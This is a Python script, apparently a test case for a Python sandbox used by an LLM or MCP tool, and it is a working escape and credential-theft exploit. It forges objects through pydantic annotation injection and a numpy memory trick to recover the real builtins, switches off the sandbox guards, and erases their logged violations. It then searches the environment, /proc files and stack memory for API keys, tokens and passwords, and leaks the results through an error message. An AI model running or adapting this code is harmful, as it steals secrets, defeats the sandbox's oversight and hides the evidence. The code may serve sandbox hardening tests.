# expect: runtime
# Hunt for API keys: /proc/<self, zygote, parent>/environ, os.environ, the environment block on the stack, and
# (without any escape) os.environ of the trusted frames reached by a format string built at run time. Whatever it
# finds goes into the error message, which the caller (an LLM, an MCP client) reads.
import math

import numpy as np
import sim

loot = {}


def note(label, step):
    """Run one attempt; keep a short line on what it gave."""
    try:
        value = step()
    except BaseException as exc:
        loot[label] = 'no ' + repr(exc).replace('PermissionError', 'PE')[:60]
        return None
    loot[label] = 'GOT ' + (f'dict of {len(value)}' if isinstance(value, dict) else repr(value)[:90])
    return value


def builtins_via_annotation():
    """pydantic evaluates a string annotation of a model subclass with the real builtins."""
    payload = "__import__('sys').modules['math'].__dict__.__setitem__('stash', __builtins__) or 'int'"
    for base in (lambda: sim.SceneSpec, lambda: type(sim.on('a', 'b')), lambda: type(sim.Scene('pick_place').spec())):
        try:
            class Probe(base()):
                probe: payload = None
        except BaseException:
            pass
        try:
            return math.stash
        except AttributeError:
            pass
    raise LookupError('no SDK class took the string annotation')


def builtins_via_numpy():
    """An object-dtype ndarray over a raw buffer turns any address into an object: fake a bytearray spanning all of
    memory, read a trusted function's func_builtins pointer, and turn that into the real builtins dict."""
    def object_at(address):
        return np.ndarray((1,), dtype=object, buffer=bytearray(address.to_bytes(8, 'little')))[0]

    fake = b''.join(n.to_bytes(8, 'little') for n in (1 << 40, id(bytearray), 1 << 62, 0, 0, 0, 0))
    memory = object_at(id(fake) + 32)
    if type(sim.place) is not type(note):
        return None
    return object_at(int.from_bytes(bytes(memory[id(sim.place) + 24:id(sim.place) + 32]), 'little'))


def escape():
    """(real builtins, the sandbox's child module) with the Python guards switched off, or (None, None)."""
    real = note('builtins via pydantic annotation', builtins_via_annotation) or note(
        'builtins via numpy object dtype', builtins_via_numpy)
    if not isinstance(real, dict) or '__import__' not in real:
        return None, None
    child = real['__import__']('sys').modules['sim.sandbox.child']
    for rule in ('_event_problem', 'import_problem', 'attribute_problem'):
        real['setattr'](child, rule, lambda *args, **kwargs: None)
    return real, child


def cover_tracks(real, child):
    """Forget the violations the guards recorded before they were switched off."""
    if real is not None:
        for entry in real['getattr'](child, '_PREPARED').values():
            entry[1].clear()


def report():
    """What worked first (the error message is cut at 500 characters)."""
    return repr(sorted(loot.items(), key=lambda item: not item[1].startswith('GOT')))


hits = []


def hunt(label, text):
    text = text if isinstance(text, str) else repr(text)
    for needle in ('s' + 'k-', 'API' + '_KEY', 'KEY' + '=', 'TO' + 'KEN', 'SEC' + 'RET', 'PASS' + 'WORD'):
        if needle in text:
            at = text.index(needle)
            hits.append(label + ': ' + text[max(0, at - 24):at + 40])


# 1. no escape needed: a format string assembled at run time walks from an exception to the trusted frames
u = '_' * 2
try:
    raise ValueError('probe')
except ValueError as exc:
    probe = exc
frame = '{0.' + u + 'traceback' + u + '.tb_frame'
for depth in range(1, 6):  # depth 1 is _execute, then run_child, _spawn, the zygote's loop
    for tail in ('.f_globals[os].environ}', '.f_locals[request]}', '.f_locals[body]}', '.f_locals[response]}'):
        try:
            hunt('format walk', (frame + '.f_back' * depth + tail).format(probe))
        except Exception:
            pass

# 2. with the real builtins: the files and the process memory
real, child = escape()
if real is not None:
    sysm = real['__import__']('sys')
    osm = real['__import__']('os')
    hunt('os.environ', note('os.environ', lambda: dict(osm.environ)))
    hunt('posix.environ', note('posix.environ', lambda: dict(sysm.modules['posix'].environ)))
    for pid in ('self', '1', str(osm.getppid()), '2', '3'):
        for what in ('environ', 'cmdline'):
            path = '/proc/' + pid + '/' + what
            hunt(path, note(path, lambda: sysm.modules['_io'].FileIO(path).read()) or '')
    ctypes = sysm.modules.get('ctypes')
    if ctypes is not None:
        # the environment block the process started with stays on its stack, between argv and the exec file name
        libc = ctypes.CDLL(None)
        libc.getauxval.restype = ctypes.c_ulong
        start = ctypes.c_void_p.in_dll(libc, 'program_invocation_name').value
        end = libc.getauxval(31)
        block = note('stack environment block', lambda: ctypes.string_at(start, end - start + len(ctypes.string_at(end))))
        if block:
            hunt('stack', block)
            loot['stack variables'] = sorted(s.split(b'=')[0].decode() for s in block.split(b'\0') if b'=' in s)
    cover_tracks(real, child)
stack = loot.pop('stack variables', None)
raise RuntimeError('environ hunt: hits=' + repr(hits[:4]) + ' stack=' + repr(stack) + ' ' + repr(loot))
